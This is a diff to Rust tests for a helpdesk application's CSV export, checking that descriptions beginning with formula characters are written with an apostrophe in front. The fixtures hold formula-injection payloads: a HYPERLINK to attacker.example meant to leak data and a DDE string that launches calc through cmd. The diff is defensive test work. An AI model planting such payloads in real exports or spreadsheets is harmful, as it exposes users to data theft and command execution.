@@ -190,6 +190,8 @@ fn check_csv_field(got: &str, want: &Want, at: &str) {
     let ok = match want {
         Want::Number(n) => got == format!("HD-{n:06}"),
         Want::Int(n) => got == n.to_string(),
+        // Text a spreadsheet would run as a formula is written with an apostrophe in front.
+        Want::Text(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => got == format!("'{s}"),
         Want::Text(s) => got == s,
         Want::Time(t) => {
             let parsed = DateTime::parse_from_rfc3339(got).unwrap_or_else(|e| panic!("{at}: {got}: {e}"));
@@ -285,6 +287,8 @@ fn populated() -> Workdir {
     requests::reject(&app, &Actor::Telegram(SUPPORT), repair.id, "Дубликат; см. HD-000001 & <прочее>").unwrap();
     requests::archive(&app, &op, repair.id).unwrap();
     file(Kind::ItHelp, "  пробелы по краям  ", vec![]);
+    file(Kind::ItHelp, "=HYPERLINK(\"http://attacker.example/?leak\";\"Подробнее\")", vec![]);
+    file(Kind::Maintenance, "@SUM(1+1)*cmd|' /C calc'!A0", vec![]);
     let mut tx = store.write().unwrap();
     let central = tx.warehouse_by_code("CENTRAL").unwrap().unwrap();
     tx.set_stock(cartridge.id, central.id, 0, Utc::now()).unwrap();
@@ -529,6 +533,15 @@ fn csv_has_the_same_columns_with_iso_dates() {
         assert_eq!(heads, HEADERS, "{what}");
         let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
         assert_eq!(records.len(), all.len(), "{what}");
+        let at = HEADERS.iter().position(|h| *h == "description").unwrap();
+        let descriptions: Vec<&str> = records.iter().map(|r| &r[at]).collect();
+        for formula in [
+            "'=SUM(A1:A2) не формула, _x0041_ не escape",
+            "'=HYPERLINK(\"http://attacker.example/?leak\";\"Подробнее\")",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+        ] {
+            assert!(descriptions.contains(&formula), "{what}: {formula} in {descriptions:?}");
+        }
         for (record, want) in records.iter().zip(&all) {
             for (col, (got, w)) in record.iter().zip(&want.cells).enumerate() {
                 check_csv_field(got, w, &format!("{what} HD-{:06} {}", want.id, HEADERS[col]));
